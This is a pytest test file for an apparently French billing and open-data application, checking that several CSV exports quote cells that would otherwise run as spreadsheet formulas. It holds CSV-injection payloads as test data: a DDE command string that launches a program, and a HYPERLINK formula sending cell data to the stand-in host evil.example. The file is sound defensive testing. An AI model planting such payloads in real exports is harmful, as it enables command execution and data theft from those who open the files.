"""Formula injection: no CSV the application writes lets a spreadsheet run a cell as a formula."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from isp import csvexport
from tests import factories

CMD = "+cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+2", "'=1+2"),
    (CMD, "'" + CMD),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"),
    ("\rx", "'\rx"),
    ("Martin", "Martin"),
    ("a=b", "a=b"),  # only the first character matters
    ("-1250", "-1250"),  # a plain number is not a formula: credit notes stay negative
    ("-12,50", "-12,50"),
    ("+33240112233", "+33240112233"),
    (-1250, -1250),
    (None, None),
    ("", ""),
])
def test_cells_that_start_a_formula_are_quoted(cell, written):
    assert csvexport.neutralise(cell) == written


def _rows(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body)))


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(csvexport.FORMULA_TRIGGERS) \
                or csvexport._PLAIN_NUMBER.fullmatch(cell), (cell, row)


@pytest.mark.clock("2026-12-04T10:00:00+01:00")
def test_accounting_export_neutralises_names_and_references(client, login_as, runner, db):
    from billing import invoices, payments
    from billing.models import Invoice
    from tests.billing.factories import billed_household, issue

    household = billed_household(tier="T3", holder_name=CMD)
    issue("2026-11", issued_on=date(2026, 12, 2))
    invoice = db.session.execute(db.select(Invoice).where(
        Invoice.household_id == household.id)).scalar_one()
    invoices.issue_credit_note(invoice, actor=None, amount_cents=100, reason="geste",
                               issued_on=date(2026, 11, 30))
    payments.record_payment(household, actor=None, amount_cents=500, method="transfer",
                            received_on=date(2026, 11, 20), reference=LINK)
    db.session.commit()
    login_as("operator")
    response = client.get("/billing/exports/2026-11/accounting.csv")
    assert response.status_code == 200
    rows = _rows(response.get_data(as_text=True))
    _no_formula(rows)
    cells = [cell for row in rows for cell in row]
    assert "'" + CMD in cells and "'" + LINK in cells
    assert "-100" in cells  # the credit note's amount stays a negative number
    # the command line writes the same file
    result = runner.invoke(args=["billing", "export", "--period", "2026-11", "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert _rows(result.output) == rows


@pytest.mark.clock("2026-12-04T10:00:00+01:00")
def test_scenario_export_neutralises_the_scenario_name(client, login_as, db):
    from billing.tariffs import ensure_default_grid
    from evaluation import scenarios

    ensure_default_grid()
    district = factories.make_district(households_count=100)
    scenario = scenarios.run({"name": LINK, "district_code": district.code, "take_up": 40},
                             actor=None)
    db.session.commit()
    login_as("analyst")
    response = client.get(f"/evaluation/scenarios/export.csv?ids={scenario.id}")
    assert response.status_code == 200
    rows = _rows(response.get_data(as_text=True))
    _no_formula(rows)
    assert rows[0][2].endswith(LINK)  # "<id> <name>": starts with the id, safe as it is


def test_open_data_aggregates_neutralise_building_names(client, db):
    from evaluation.aggregates import refresh
    from tests.evaluation.factories import building_with_subscribers

    building = building_with_subscribers(served=6, flats=8)
    building.name = CMD
    db.session.flush()
    refresh(["2026-11"])
    response = client.get("/open-data/aggregates.csv")
    assert response.status_code == 200
    rows = _rows(response.get_data(as_text=True))
    _no_formula(rows)
    assert "'" + CMD in [cell for row in rows for cell in row]


def test_open_data_places_neutralise_place_names(client, db):
    from mediation.associations import save_place

    district = factories.make_district()
    association = factories.make_association(districts=district.code, siret_or_rna="W442000009")
    save_place(association, name=LINK, address="@1 rue X", postcode="44300",
               commune="Nantes")
    db.session.flush()
    response = client.get("/open-data/lieux-mediation-numerique.csv")
    assert response.status_code == 200
    rows = _rows(response.get_data(as_text=True))
    _no_formula(rows)
    cells = [cell for row in rows for cell in row]
    assert "'" + LINK in cells and "'@1 rue X" in cells
